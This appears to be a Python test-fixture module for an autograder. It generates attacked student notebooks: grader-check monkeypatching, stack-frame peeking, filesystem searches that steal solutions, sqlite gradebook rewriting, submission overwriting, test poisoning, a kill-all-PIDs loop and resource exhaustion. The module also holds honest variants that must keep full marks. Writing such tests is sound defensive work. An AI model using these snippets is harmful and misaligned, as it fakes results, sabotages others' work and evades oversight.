"""Submissions a determined student could hand in, built from a released notebook at test time (so
they follow the assignment when it changes), with the auto-graded points each must get.

Classes (issue 12): points without solving anything (tampering with the kernel or the checks), the
reference guard bypassed, reaching outside the sandbox, harming classmates, and honest work that must
keep full marks (warnings, helpers with the tests' names, notebook accidents). Each variant is
``(notebook, expected)``: ``expected`` maps every auto-graded item to its points.
"""
from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from classroom_fixtures import COURSE

A2 = "a2_rnn"
A3 = "a3_lstm"
A6 = "a6_time_series"

# a shell snippet, used by several attacks: every file of a given name this process can find
FIND = '''
import os as _os
def _find(name, roots=("/", "/work", "/root", "/tmp", "/home", "/srv", "/course", _os.getcwd(), "..", "../..")):
    hits = []
    for r in roots:
        for d, _dirs, files in _os.walk(r):
            if d.count("/") > 9 or d.startswith(("/proc", "/sys", "/usr", "/dev")):
                _dirs[:] = []
                continue
            if name in files:
                hits.append(_os.path.join(d, name))
    return hits
'''


def _cells(nb, key="solution"):
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells if c.metadata.get("nbgrader", {}).get(key)}


def _points(assignment: str) -> dict[str, float]:
    src = nbformat.read(COURSE / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    return {c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"]) for c in src.cells
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")}


def released(assignment: str, course: Path = COURSE) -> nbformat.NotebookNode:
    return nbformat.read(course / "release" / assignment / f"{assignment}.ipynb", as_version=4)


def solved(assignment: str, course: Path = COURSE) -> nbformat.NotebookNode:
    """The release with the source's solutions pasted into its answer cells."""
    nb = released(assignment, course)
    src = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    sols = {gid: c.source for gid, c in _cells(src).items()}
    for gid, c in _cells(nb).items():
        c.source = "\n".join(ln for ln in sols[gid].splitlines()
                             if ln.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
    return nb


def _with_first_answer_prefix(nb, code: str):
    first = next(c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution"))
    first.source = code + "\n" + first.source
    return nb


def _set(nb, gid: str, source: str):
    _cells(nb)[gid].source = source
    return nb


GARBAGE_A2 = '''
import torch as _t
def rnn_step(*a, **k): return _t.zeros(1)
def rnn_forward(*a, **k): return _t.zeros(1), _t.zeros(1)
def masked_cross_entropy(*a, **k): return _t.zeros(())
def sample_with_temperature(*a, **k): return _t.zeros(1, dtype=_t.long)
def clip_gradients(*a, **k): return 0.0
answer_powers = "d"
answer_vanishing = "d"
'''


def points_without_solving() -> dict[str, str]:
    """Code put in the first answer cell of the blank a2 release: none of it solves anything."""
    return {
        "input_transformer": 'get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])',
        "ast_transformer": '''
import ast as _ast
class _Swallow(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return _ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_Swallow())
''' + GARBAGE_A2,
        "replaced_checks": GARBAGE_A2 + '''
import numpy as _np, course_lib.check as _c, course_lib
compare = lambda *a, **k: "exact"
_c.compare = course_lib.compare = compare
_c.describe_difference = lambda *a, **k: (True, "exact")
_np.allclose = lambda *a, **k: True
_t.allclose = lambda *a, **k: True
_t.equal = lambda *a, **k: True
''',
        "mc_always_equal": GARBAGE_A2 + '''
class _Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
answer_powers = _Yes("z")
answer_vanishing = _Yes("z")
''',
        "stack_reader": '''
import sys as _sys, torch as _t
class _Peek:
    def _grab(self):
        f = _sys._getframe(1)
        while f is not None:
            for k in ("expected", "_expected", "e", "_ref", "_out_ref"):
                v = f.f_locals.get(k)
                if isinstance(v, _t.Tensor):
                    return v
            f = f.f_back
        return _t.zeros(1)
    def __array__(self, dtype=None, copy=None):
        return self._grab().numpy()
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return self._grab()
def rnn_step(*a, **k): return _Peek()
def masked_cross_entropy(*a, **k): return _Peek()
''',
        "steal_source": FIND + '''
import json as _json
for _p in _find("a2_rnn.ipynb"):
    try:
        _nb = _json.load(open(_p))
    except Exception:
        continue
    for _c in _nb["cells"]:
        _s = "".join(_c["source"])
        if "BEGIN SOLUTION" in _s:
            try:
                exec(_s, globals())
            except Exception:
                pass
''',
        "detached_rewriter": FIND + '''
import subprocess as _sp, sys as _sys
_code = """
import os, sqlite3, time
time.sleep(3)
for d, _dirs, files in os.walk("/"):
    if d.startswith(("/proc", "/sys")):
        _dirs[:] = []
    for f in files:
        if f == "gradebook.db":
            try:
                con = sqlite3.connect(os.path.join(d, f))
                con.execute("update grade set manual_score = 100")
                con.commit()
            except Exception:
                pass
"""
_sp.Popen([_sys.executable, "-c", _code], start_new_session=True, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
''',
    }


def harm_to_others() -> dict[str, str]:
    """Code put in the first answer cell of the blank a2 release that goes after classmates and the course."""
    return {
        "gradebook_writer": FIND + '''
import sqlite3 as _sq
for _p in _find("gradebook.db"):
    try:
        _con = _sq.connect(_p)
        _con.execute("update grade set manual_score = 0 where id in (select id from grade)")
        _con.execute("update grade set manual_score = 100, needs_manual_grade = 0")
        _con.commit()
    except Exception:
        pass
''',
        "submission_replacer": FIND + '''
import shutil as _sh
_blank = [p for p in _find("a2_rnn.ipynb") if "/release/" in p]
for _p in _find("a2_rnn.ipynb"):
    if "/submitted/" in _p or "/autograded/" in _p:
        try:
            _sh.copyfile(_blank[0] if _blank else "/dev/null", _p)
        except Exception:
            pass
''',
        "test_poisoner": FIND + '''
import json as _json, os as _os2
for _p in _find("a2_rnn.ipynb"):
    try:
        _nb = _json.load(open(_p))
        for _c in _nb["cells"]:
            if _c.get("metadata", {}).get("nbgrader", {}).get("grade"):
                _c["source"] = "".join(_c["source"]) + "\\nassert False, 'poisoned'"
        _json.dump(_nb, open(_p, "w"))
    except Exception:
        pass
    try:
        open(_os2.path.join(_os2.path.dirname(_p), "torch.py"), "w").write("raise SystemExit('shadowed')")
    except Exception:
        pass
for _p in _find("nbgrader_config.py"):
    try:
        open(_p, "a").write("\\nraise SystemExit('config poisoned')\\n")
    except Exception:
        pass
''',
        "resource_hogs": '''
import os as _os, time as _time
_kids = 0
for _ in range(400):            # more processes than the sandbox allows: stopped at its limit
    try:
        if _os.fork() == 0:
            _time.sleep(60)
            _os._exit(0)
        _kids += 1
    except OSError:
        break
try:
    _big = bytearray(64 * 2**30)   # more memory than the sandbox allows
except MemoryError:
    pass
with open("big.bin", "wb") as _f:  # a bigger file than it allows: the process is stopped
    _f.write(b"\\0" * (300 * 2**20))
''',
        "process_killer": '''
import os as _os, signal as _sig
for _pid in range(2, 65536):
    if _pid != _os.getpid():
        try:
            _os.kill(_pid, _sig.SIGKILL)
        except Exception:
            pass
''',
    }


def reference_bypasses() -> dict[str, tuple[str, str, str]]:
    """(assignment, answer id, cheating answer that computes the right value with the reference)."""
    return {
        "default_argument": (A2, "step_answer", '''
import torch
def rnn_step(x_t, h_prev, U, W, b, _f=torch.rnn_tanh_cell):
    return _f(x_t, h_prev, U, W, b, None)
'''),
        "partial": (A2, "step_answer", '''
import functools, torch
rnn_step = functools.partial(lambda x_t, h_prev, U, W, b, f: f(x_t, h_prev, U, W, b, None), f=torch.rnn_tanh_cell)
'''),
        "dict_value": (A2, "step_answer", '''
import torch
_TOOLS = {"cell": torch.rnn_tanh_cell}
def rnn_step(x_t, h_prev, U, W, b):
    return _TOOLS["cell"](x_t, h_prev, U, W, b, None)
'''),
        "clip_private_helpers": (A2, "clip_answer", '''
from torch.nn.utils import clip_grad as _cg
def clip_gradients(parameters, max_norm):
    params = [p for p in parameters if p.grad is not None]
    if not params:
        return 0.0
    total = _cg._get_total_norm([p.grad for p in params])
    _cg._clip_grads_with_norm_(params, max_norm, total)
    return float(total)
'''),
        "guard_rebound": (A2, "step_answer", '''
import contextlib, torch
import course_lib.grading.guards as _g
_g.refuse_reference = lambda *a, **k: contextlib.nullcontext()
refuse_reference = _g.refuse_reference
def rnn_step(x_t, h_prev, U, W, b):
    return torch.rnn_tanh_cell(x_t, h_prev, U, W, b, None)
'''),
        "statsmodels_AutoReg": (A6, "fit_answer", '''
import numpy as np
from statsmodels.tsa.ar_model import AutoReg
def fit_ar(x, d):
    p = AutoReg(np.asarray(x, dtype=float), d, trend="c").fit().params
    return float(p[0]), np.asarray(p[1:])
'''),
        "torch_VF": (A3, "lstm_answer", '''
import torch
def lstm_cell_step(x, h, c, U, W, b):
    return torch._VF.lstm_cell(x, (h, c), U, W, b, None)
'''),
    }


def honest_variants() -> dict[str, object]:
    """Correct a2 work that looks unusual; each must keep full marks (a function of the solved notebook)."""
    def warnings_and_logging(nb):
        _cells(nb)["step_answer"].source = '''import logging, warnings
import torch


def rnn_step(x_t, h_prev, U, W, b):
    warnings.warn("this is a UserWarning from the student's code", UserWarning)
    logging.warning("and a log line")
    torch.tensor([1.0, 2.0]).resize_(1)  # a deprecation-style warning from PyTorch itself
    return torch.tanh(b + h_prev @ W.T + x_t @ U.T)
'''
        return nb

    def helpers_named_like_tests(nb):
        _cells(nb)["step_answer"].source = '''import torch


def compare(a, b):
    """The student's own helper, named like the course's checker."""
    return a + b


def _cell(x, U):
    return x @ U.T


def _norm(v):
    return v


_expected = "not a tensor"


def rnn_step(x_t, h_prev, U, W, b):
    return torch.tanh(_norm(compare(b, _cell(h_prev, W)) + _cell(x_t, U)))
'''
        return nb

    def duplicate_answer_cell(nb):
        i = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "step_answer")
        nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
        return nb

    def merged_cells_and_deleted_test(nb):
        step = _cells(nb)["step_answer"]
        fwd = _cells(nb)["forward_answer"]
        step.source += "\n\n" + fwd.source
        # the test of the merged-away answer goes too: the cell before it in the source is gone as well
        nb.cells = [c for c in nb.cells if c is not fwd and
                    c.metadata.get("nbgrader", {}).get("grade_id") != "forward_tests"]
        return nb

    def unknown_id(nb):
        extra = nbformat.v4.new_code_cell("notes = 'my scratch work'", metadata={"nbgrader": {
            "grade": False, "grade_id": "my_scratch", "locked": False, "schema_version": 3, "solution": True,
            "task": False}})
        nb.cells.insert(3, extra)
        return nb

    def toggled_flags(nb):
        test = _cells(nb, "grade")["masked_tests"]
        test.metadata["nbgrader"].update(grade=False, locked=False, solution=True)
        return nb

    return {"warnings_and_logging": warnings_and_logging, "helpers_named_like_tests": helpers_named_like_tests,
            "duplicate_answer_cell": duplicate_answer_cell, "unknown_id": unknown_id, "toggled_flags": toggled_flags,
            "merged_cells_and_deleted_test": merged_cells_and_deleted_test}


INTERRUPT_PROOF = '''
def clip_gradients(parameters, max_norm):
    while True:
        try:
            while True:
                pass
        except KeyboardInterrupt:
            pass
'''


def class_of_submissions(course: Path) -> dict[str, tuple[nbformat.NotebookNode, str, dict[str, float]]]:
    """student -> (notebook, assignment, expected auto points per item) for a whole attacked class."""
    out = {}
    p2 = _points(A2)
    zero2 = {k: 0.0 for k in p2}
    for name, code in {**points_without_solving(), **harm_to_others()}.items():
        out[f"a_{name}"] = (_with_first_answer_prefix(released(A2, course), code), A2, zero2)
    for name, (assignment, gid, code) in reference_bypasses().items():
        if not (course / "source" / assignment).is_dir():
            continue
        pts = _points(assignment)
        test = gid.replace("_answer", "_tests")
        out[f"b_{name}"] = (_set(solved(assignment, course), gid, code), assignment, {**pts, test: 0.0})
    for name, make in honest_variants().items():
        out[f"h_{name}"] = (make(solved(A2, course)), A2, dict(p2))
    out["l_interrupt_proof_loop"] = (_set(solved(A2, course), "clip_answer", INTERRUPT_PROOF), A2,
                                     {**p2, "clip_tests": 0.0})
    for k in range(2):
        out[f"z_victim{k}"] = (solved(A2, course), A2, dict(p2))
    return out
